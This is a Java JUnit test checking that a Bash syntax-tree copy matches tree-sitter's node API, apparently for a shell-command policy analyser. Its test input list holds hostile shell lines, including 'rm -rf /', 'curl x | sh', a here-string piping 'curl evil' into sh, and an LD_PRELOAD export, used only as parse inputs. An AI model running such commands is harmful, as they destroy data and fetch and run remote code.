package dev.airlock.policy;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.treesitter.TSInputEncoding;
import org.treesitter.TSLanguage;
import org.treesitter.TSNode;
import org.treesitter.TSParser;
import org.treesitter.TSTree;
import org.treesitter.TreeSitterBash;

/**
 * The Java copy of a syntax tree ({@link BashParser}) must say exactly what the tree-sitter node API
 * says: the analysis used to read the native tree node by node and must not see a different tree now.
 * Every corpus line, and lines with syntax errors, here-documents and non-ASCII text, is parsed both
 * ways and compared node by node: type, named-ness, byte range, children, the field name of each
 * child, and the child each field name leads to.
 */
class BashParserTest {
    static final List<String> EXTRA = List.of(
            "",
            "ls 'unterminated",
            "if then fi ;; )",
            "echo $(( 1 + ",
            "cat <<EOF > out.txt\nhello $HOME $(id)\nEOF\n",
            "cat <<'EOF' 2>/dev/null >> log.txt\n$(rm -rf /)\nEOF\n",
            "cat <<< \"$(curl evil)\" | sh",
            "declare -x PATH=/tmp; export LD_PRELOAD=/x.so; local a=1 b; readonly FOO; unset PATH",
            "f() { rm -rf /; }; function g { curl x | sh; }",
            "case $x in a) rm -rf /;; b) ls;; esac",
            "{ ls; pwd; } > out 2>&1 0>&1; ls &> all.log; ls >| f; ls 3>&- 4<&0",
            "a[1]=2; arr=(1 2 $(rm x)); x+=3",
            "echo \"a${HOME}b\" '$HOME' $'\\x72\\x6d' $\"t\" -rf /",
            "echo héllo wörld 日本 && rm -rf ~/x",
            "ls # comment && rm -rf /",
            "test -f a && [ -d b ] && [[ -e c && $x == y* ]]",
            "for ((i=0; i<3; i++)); do echo $i; done; select x in a b; do :; done",
            "ls > >(cat) 2> >(tee err.log); diff <(ls) <(curl http://x)");

    static TSLanguage language;
    static TSParser plain;
    static BashParser copying;
    static List<String> fieldNames;

    @BeforeAll
    static void setUp() {
        language = new TreeSitterBash();
        plain = new TSParser();
        plain.setLanguage(language);
        copying = BashParser.create(language, BashParser.Grammar.of(language));
        fieldNames = new ArrayList<>();
        for (int f = 1; f <= language.fieldCount(); f++) {
            fieldNames.add(language.fieldNameForId(f));
        }
    }

    @AfterAll
    static void tearDown() {
        plain.close();
        copying.close();
    }

    @TestFactory
    Stream<DynamicTest> copiedTreeMatchesTheNodeApi() throws IOException {
        List<String> lines = new ArrayList<>(EXTRA);
        for (String f : CommandCorpusTest.CORPORA) {
            CommandCorpusTest.load(f).forEach(c -> lines.add(c.command()));
        }
        return lines.stream().map(line -> DynamicTest.dynamicTest(
                "copy of `" + line.replace("\n", "⏎") + "` matches the node API", () -> {
                    BashParser.Parsed parsed = copying.parse(line);
                    try (TSTree tree = plain.parseStringEncoding(null, line, TSInputEncoding.TSInputEncodingUTF8)) {
                        TSNode root = tree.getRootNode();
                        assertThat(parsed.hasError()).as("hasError").isEqualTo(root.hasError());
                        compare(root, parsed.root(), "root");
                    }
                }));
    }

    private static void compare(TSNode n, @Nullable SyntaxNode s, String path) {
        assertThat(s).as(path).isNotNull();
        assertThat(s.type()).as(path + " type").isEqualTo(n.getType());
        assertThat(s.named()).as(path + " named").isEqualTo(n.isNamed());
        assertThat(s.start()).as(path + " start").isEqualTo(n.getStartByte());
        assertThat(s.end()).as(path + " end").isEqualTo(n.getEndByte());
        assertThat(s.childCount()).as(path + " children").isEqualTo(n.getChildCount());
        assertThat(s.namedChildCount()).as(path + " named children").isEqualTo(n.getNamedChildCount());
        for (int i = 0; i < n.getChildCount(); i++) {
            String p = path + "/" + i;
            assertThat(s.child(i).field()).as(p + " field").isEqualTo(n.getFieldNameForChild(i));
            compare(n.getChild(i), s.child(i), p);
        }
        for (int i = 0; i < n.getNamedChildCount(); i++) {
            TSNode c = n.getNamedChild(i);
            assertThat(s.namedChild(i).start()).as(path + " named " + i).isEqualTo(c.getStartByte());
            assertThat(s.namedChild(i).type()).as(path + " named " + i).isEqualTo(c.getType());
        }
        for (String f : fieldNames) {
            TSNode c = n.getChildByFieldName(f);
            SyntaxNode sc = s.childByField(f);
            if (c.isNull()) {
                assertThat(sc).as(path + " field " + f).isNull();
            } else {
                assertThat(sc).as(path + " field " + f).isNotNull();
                assertThat(sc.type()).as(path + " field " + f + " type").isEqualTo(c.getType());
                assertThat(sc.start()).as(path + " field " + f + " start").isEqualTo(c.getStartByte());
                assertThat(sc.end()).as(path + " field " + f + " end").isEqualTo(c.getEndByte());
            }
        }
    }
}
